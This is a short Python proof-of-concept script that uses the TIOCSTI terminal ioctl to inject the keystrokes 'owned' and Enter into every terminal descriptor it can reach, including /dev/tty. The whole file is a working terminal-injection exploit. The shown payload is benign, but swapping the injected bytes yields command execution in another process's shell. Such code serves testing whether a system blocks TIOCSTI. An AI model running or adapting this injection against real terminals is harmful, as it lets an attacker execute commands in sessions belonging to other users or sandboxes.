# Puts input into each terminal that it can find, by TIOCSTI: ioctl_tty(2).
import fcntl
import os

descriptors = list(range(256))
try:
    descriptors.append(os.open("/dev/tty", os.O_RDWR))
except OSError:
    pass
for descriptor in descriptors:
    for character in b"owned\n":
        try:
            fcntl.ioctl(descriptor, 0x5412, bytes([character]))
        except OSError:
            break
